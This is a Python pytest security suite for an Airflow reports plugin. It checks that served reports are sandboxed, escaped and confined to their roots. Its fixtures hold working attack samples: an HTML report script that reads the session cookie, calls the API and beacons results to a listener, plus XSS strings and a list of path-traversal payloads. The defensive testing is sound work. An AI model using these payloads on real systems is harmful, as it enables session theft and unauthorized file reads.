"""The reports plugin (``/airloop``) as a user meets it: a real api-server, a login in headless
Chromium, and reports whose HTML tries to steal the session.

Reports come from the api-server's own origin, where the UI keeps the user's JWT in a cookie that
page scripts can read. Nothing in a report may run with that origin's rights, the plugin must
not publish its API docs, and no request path may reach a file outside the report roots.
"""

from __future__ import annotations

import http.client
import http.server
import json
import os
import shutil
import threading
import time
import urllib.parse
from pathlib import Path

import pytest
import requests

from airloop.testing import AirflowStack

pytestmark = pytest.mark.slow

MODEL = "late_delivery"
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--no-first-run",
]

# A report whose HTML was poisoned (as a CSV cell can poison Data Docs): it tries to read the
# session cookie and to call the REST API with it, shows what it got and sends it to a listener.
POISONED_REPORT = """<!doctype html><title>poisoned report</title>
<p id="ran">script did not run</p>
<p id="cookie">cookie: pending</p>
<p id="api">api: pending</p>
<p id="done"></p>
<img src=x onerror="document.getElementById('ran').textContent += ' (onerror too)'">
<script>
const LISTENER = "__LISTENER__";
function leak(what) {
  try { new Image().src = LISTENER + "/img?" + encodeURIComponent(what); } catch (e) {}
  try { fetch(LISTENER + "/fetch?" + encodeURIComponent(what), {mode: "no-cors"}).catch(() => {}); } catch (e) {}
  try { navigator.sendBeacon(LISTENER + "/beacon", what); } catch (e) {}
}
document.getElementById("ran").textContent = "script ran";
let cookie;
try { cookie = "cookie: read " + JSON.stringify(document.cookie); } catch (e) { cookie = "cookie: blocked (" + e.name + ")"; }
document.getElementById("cookie").textContent = cookie;
leak(cookie);
fetch("/api/v2/dags", {credentials: "include"})
  .then(async (r) => "api: answered " + r.status + " " + (await r.text()).slice(0, 200),
        (e) => "api: blocked (" + e + ")")
  .then((text) => {
    document.getElementById("api").textContent = text;
    leak(text);
    document.getElementById("done").textContent = "done";
  });
</script>
"""
# Data Docs need no script: there nothing in a page may run at all.
POISONED_DATA_DOCS = """<!doctype html><title>Data Docs</title><p id="ran">no script ran</p>
<img src=x onerror="document.getElementById('ran').textContent = 'onerror ran'">
<script>document.getElementById("ran").textContent = "script ran";</script>
"""

HOSTILE_NAME = '"><img src=x onerror=alert(1)>.html'
HOSTILE_CONTENT = "<p>a report with a hostile name</p>"
# A batch whose int column holds markup: refused when the file is read, before Great Expectations.
HOSTILE_CELL = "<img src=x onerror=alert(1)>"


class ApiServer(AirflowStack):
    """Only Airflow's api-server (where plugins are mounted): the reports need no scheduler."""

    def __init__(self, home: Path, env: dict[str, str]) -> None:
        super().__init__(home, env=env, components=("api-server",))

    def wait_healthy(self, timeout: float) -> None:
        """Up when the health endpoint answers (the scheduler it reports on is not started)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            proc = self.procs["api-server"]
            if proc.poll() is not None:
                raise RuntimeError(f"api-server exited ({proc.returncode}):\n{self.logs('api-server')[-3000:]}")
            try:
                if requests.get(f"{self.url}/api/v2/monitor/health", timeout=2).status_code == 200:
                    return
            except requests.RequestException:
                pass
            time.sleep(0.5)
        raise TimeoutError(f"api-server not up after {timeout}s:\n{self.logs('api-server')[-3000:]}")


class Listener:
    """An HTTP server on loopback that records every request: where stolen data would arrive."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def record(self) -> None:
                listener.requests.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = record

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def write_evidently_report(path: Path) -> None:
    """A real, tiny Evidently drift report: one column shifted, one not."""
    import numpy as np
    import pandas as pd
    from evidently import Report
    from evidently.presets import DataDriftPreset

    rng = np.random.default_rng(0)
    reference = pd.DataFrame({"distance_km": rng.normal(5, 1, 80), "items": rng.integers(1, 6, 80)})
    current = reference.assign(distance_km=reference["distance_km"] + 3)
    Report([DataDriftPreset()]).run(current_data=current, reference_data=reference).save_html(str(path))


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory, listener):
    """Report roots with real and hostile files, a secret file outside them, and an api-server."""
    home = tmp_path_factory.mktemp("reports-security")
    reports = home / "reports" / MODEL
    docs = home / "validation" / "gx" / "uncommitted" / "data_docs" / "local_site"
    reports.mkdir(parents=True)
    docs.mkdir(parents=True)
    secret = home / "secret.txt"  # outside both roots; reports/../secret.txt would reach it
    secret.write_text("TOP SECRET")

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DO_NOT_TRACK", "1")
        write_evidently_report(reports / "drift.html")
    (reports / "poisoned.html").write_text(POISONED_REPORT.replace("__LISTENER__", listener.url))
    (reports / HOSTILE_NAME).write_text(HOSTILE_CONTENT)
    (reports / "notes.json").write_text(json.dumps({"ok": True}))
    (reports / "payload.exe").write_bytes(b"MZ<script>alert(1)</script>")
    (reports / "escape.html").symlink_to(secret)  # a symlink out of the root...
    (reports / "outdir").symlink_to(home, target_is_directory=True)  # ...and one to a folder
    (docs / "index.html").write_text(POISONED_DATA_DOCS)

    env = {
        "AIRLOOP_HOME": str(home),
        "AIRLOOP_REPORTS_DIR": str(home / "reports"),
        "AIRLOOP_VALIDATION_DIR": str(home / "validation"),
    }
    with pytest.MonkeyPatch.context() as mp:
        for name, value in env.items():
            mp.setenv(name, value)
        refused = refused_batch_record()
    with ApiServer(home / "airflow", env=env) as server:
        server.secret = secret
        server.refused = refused
        yield server


def refused_batch_record():
    """Validate (for real) a batch that the CSV layer refuses, so GX never runs: its record is
    the only place that says why. Returns the ValidationResult."""
    import datetime as dt

    from airloop.spec import get_spec
    from airloop.validation import run_validation

    spec = get_spec(MODEL)
    header = ",".join(spec.dataset.columns)
    row = {name: "1" for name in spec.dataset.columns}
    row.update(order_id="o1", restaurant_id=HOSTILE_CELL, event_timestamp="2026-10-01T10:00:00Z", zone="center")
    data = f"{header}\n{','.join(row[name] for name in spec.dataset.columns)}\n".encode()
    result, frame = run_validation(spec.events, "orders_2026-10-01.csv", data, dt.date(2026, 10, 1))
    assert not result.success and frame is None
    return result


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory) -> Path:
    """Where screenshots go: $AIRLOOP_TEST_ARTIFACTS, else the test's tmp dir."""
    path = Path(os.environ.get("AIRLOOP_TEST_ARTIFACTS") or tmp_path_factory.mktemp("artifacts"))
    path.mkdir(parents=True, exist_ok=True)
    return path


def raw_get(site: ApiServer, path: str, *, token: str | None) -> tuple[int, dict[str, str], bytes]:
    """GET with the path sent exactly as given: no client normalizes ``..`` or decodes ``%2e``."""
    conn = http.client.HTTPConnection("127.0.0.1", site.port, timeout=10)
    try:
        conn.putrequest("GET", path, skip_accept_encoding=True)
        if token:
            conn.putheader("Authorization", f"Bearer {token}")
        conn.endheaders()
        resp = conn.getresponse()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    finally:
        conn.close()


def assert_sandboxed(headers: dict[str, str], *, scripts: bool) -> None:
    """The headers keep a page out of the Airflow origin and off the network."""
    csp = headers["content-security-policy"]
    directives = {d.split()[0]: d.split()[1:] for d in (part.strip() for part in csp.split(";")) if d}
    assert "sandbox" in directives and "allow-same-origin" not in directives["sandbox"], csp
    assert ("allow-scripts" in directives["sandbox"]) == scripts, csp
    assert directives["default-src"] == ["'none'"] and directives["connect-src"] == ["'none'"], csp
    assert "http" not in csp and "*" not in csp, csp  # no host may be named
    assert all("'self'" not in values for name, values in directives.items() if name != "frame-ancestors"), csp
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/airloop/docs", "/airloop/redoc", "/airloop/openapi.json"])
def test_the_plugin_publishes_no_api_docs(site, path):
    for token in (None, site.token()):
        status, _, body = raw_get(site, path, token=token)
        assert status == 404, body
        assert b"openapi" not in body.lower() and b"swagger" not in body.lower()


ESCAPES = {
    "dot-dot": "reports/../secret.txt",
    "dot-dot-deep": f"reports/{MODEL}/../../secret.txt",
    "encoded-dots": "reports/%2e%2e/secret.txt",
    "encoded-slash": "reports/..%2fsecret.txt",
    "all-encoded": f"reports/{MODEL}/%2E%2E%2F%2e%2e%2Fsecret.txt",
    "data-docs-up": "datadocs/" + "%2e%2e/" * 5 + "secret.txt",
    "absolute": "reports/%2F{secret}",
    "symlink-to-file": f"reports/{MODEL}/escape.html",
    "symlink-to-dir": f"reports/{MODEL}/outdir/secret.txt",
    "nul": f"reports/{MODEL}/drift.html%00",
    "nul-then-dots": "reports/%00/../secret.txt",
    "nul-extension": f"reports/{MODEL}/poisoned.html%00.png",
    "unknown-root": "secret/secret.txt",
}


@pytest.mark.parametrize("path", list(ESCAPES.values()), ids=list(ESCAPES))
def test_no_path_reaches_outside_the_report_roots(site, path):
    assert site.secret.read_text() == "TOP SECRET"  # the target really exists
    path = path.format(secret=urllib.parse.quote(str(site.secret).lstrip("/"), safe=""))
    status, headers, body = raw_get(site, f"/airloop/files/{path}", token=site.token())
    assert status == 404, (status, body[:200])
    assert b"TOP SECRET" not in body
    assert_sandboxed(headers, scripts=False)


def test_dot_dot_that_stays_inside_a_root_still_works(site):
    # Proves the raw client sends ".." as-is: the plugin resolves it, and it lands in the root.
    status, _, body = raw_get(site, f"/airloop/files/reports/{MODEL}/%2e%2e/{MODEL}/notes.json", token=site.token())
    assert status == 200 and json.loads(body) == {"ok": True}


def test_files_are_sandboxed_and_typed(site):
    headers = {"Authorization": f"Bearer {site.token()}"}

    def get(path: str) -> requests.Response:
        resp = requests.get(f"{site.url}/airloop/{path}", headers=headers, timeout=30)
        assert resp.status_code == 200, (path, resp.text[:200])
        return resp

    report = get(f"files/reports/{MODEL}/drift.html")
    assert report.headers["content-type"] == "text/html; charset=utf-8"
    assert_sandboxed(report.headers, scripts=True)  # Evidently draws with inline scripts

    for path in ("files/datadocs/index.html", ""):  # Data Docs and the index run no script
        assert_sandboxed(get(path).headers, scripts=False)

    notes = get(f"files/reports/{MODEL}/notes.json")
    assert notes.headers["content-type"] == "application/json"
    assert_sandboxed(notes.headers, scripts=True)

    download = get(f"files/reports/{MODEL}/payload.exe")
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"].startswith("attachment")
    assert_sandboxed(download.headers, scripts=True)


def test_the_index_escapes_what_it_lists(site):
    headers = {"Authorization": f"Bearer {site.token()}"}
    index = requests.get(f"{site.url}/airloop/", headers=headers, timeout=30)
    assert f"{MODEL}/drift.html" in index.text
    assert "<img" not in index.text
    assert f"{MODEL}/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;.html</a>" in index.text
    # Its link is percent-encoded, so it still opens that report.
    href = f"/airloop/files/reports/{MODEL}/" + urllib.parse.quote(HOSTILE_NAME)
    assert f'href="{href}"' in index.text
    assert requests.get(f"{site.url}{href}", headers=headers, timeout=30).text == HOSTILE_CONTENT
    assert "escape.html" not in index.text  # a symlink out of the root is not listed either


def test_a_batch_refused_before_great_expectations_has_its_own_page(site):
    refused = site.refused
    assert refused.data_docs is None  # no Data Docs page mentions it: it must not link to one
    assert refused.page == f"/airloop/validation/orders/{refused.result_id}"
    assert refused.page in refused.summary()
    headers = {"Authorization": f"Bearer {site.token()}"}

    page = requests.get(f"{site.url}{refused.page}", headers=headers, timeout=30)
    assert page.status_code == 200, page.text[:300]
    assert_sandboxed({k.lower(): v for k, v in page.headers.items()}, scripts=False)
    assert "Validation rejected: orders_2026-10-01.csv" in page.text
    assert "restaurant_id" in page.text and "Great Expectations did not run" in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text and "<img" not in page.text

    index = requests.get(f"{site.url}/airloop/", headers=headers, timeout=30)
    assert f'href="{refused.page}"' in index.text and "validation rejected: orders_2026-10-01.csv" in index.text

    assert requests.get(f"{site.url}{refused.page}", timeout=30).status_code in (401, 403)
    for path in ("/airloop/validation/orders/nope", "/airloop/validation/%2e%2e/secret",
                 f"/airloop/validation/orders/..%2f..%2f{refused.result_id}", "/airloop/validation/orders/x%00"):
        status, _, body = raw_get(site, path, token=site.token())
        assert status == 404, (path, status, body[:200])


def test_a_poisoned_report_cannot_use_the_session_in_a_browser(site, listener, artifacts):
    """Log in as admin in Chromium, then open reports that attack the session."""
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium")
    assert chromium, "Debian's chromium is missing: `make system-deps` installs it"
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            console: list[str] = []
            page.on("console", lambda msg: console.append(msg.text))

            page.goto(f"{site.url}/")
            page.get_by_label("Username").fill("admin")
            page.get_by_label("Password").fill(site.password)
            page.get_by_role("button", name="Sign in").click()
            page.wait_for_url(f"{site.url}/", timeout=60_000)
            token = next(c["value"] for c in page.context.cookies() if c["name"] == "_token")

            # The threat is real: any script in the Airflow origin reads the JWT and calls the API.
            assert token in page.evaluate("document.cookie")
            assert page.evaluate("fetch('/api/v2/dags').then((r) => r.status)") == 200

            # A poisoned report's script runs, but sandboxed: no cookie, no API, no way out.
            page.goto(f"{site.url}/airloop/files/reports/{MODEL}/poisoned.html")
            page.wait_for_selector("#done:text('done')", timeout=30_000)
            page.screenshot(path=str(artifacts / "poisoned-report.png"))
            assert page.inner_text("#ran") == "script ran (onerror too)"
            assert page.inner_text("#cookie").startswith("cookie: blocked")
            assert page.inner_text("#api").startswith("api: blocked")
            assert token not in page.content()
            page.wait_for_timeout(1000)  # let any beacon that slipped through arrive
            assert listener.requests == []

            # Data Docs: nothing runs, not even an inline event handler.
            page.goto(f"{site.url}/airloop/files/datadocs/index.html")
            page.wait_for_load_state("load")
            page.screenshot(path=str(artifacts / "data-docs.png"))
            assert page.inner_text("#ran") == "no script ran"

            # A real Evidently report still renders under its policy, and breaks none of it.
            console.clear()
            page.goto(f"{site.url}/airloop/files/reports/{MODEL}/drift.html")
            page.get_by_text("Dataset Drift").first.wait_for(state="visible", timeout=60_000)
            page.get_by_text("Drifted Columns").first.wait_for(state="visible", timeout=10_000)
            page.screenshot(path=str(artifacts / "evidently-report.png"))
            assert not [msg for msg in console if "Content Security Policy" in msg], console
        finally:
            browser.close()
    assert listener.requests == []
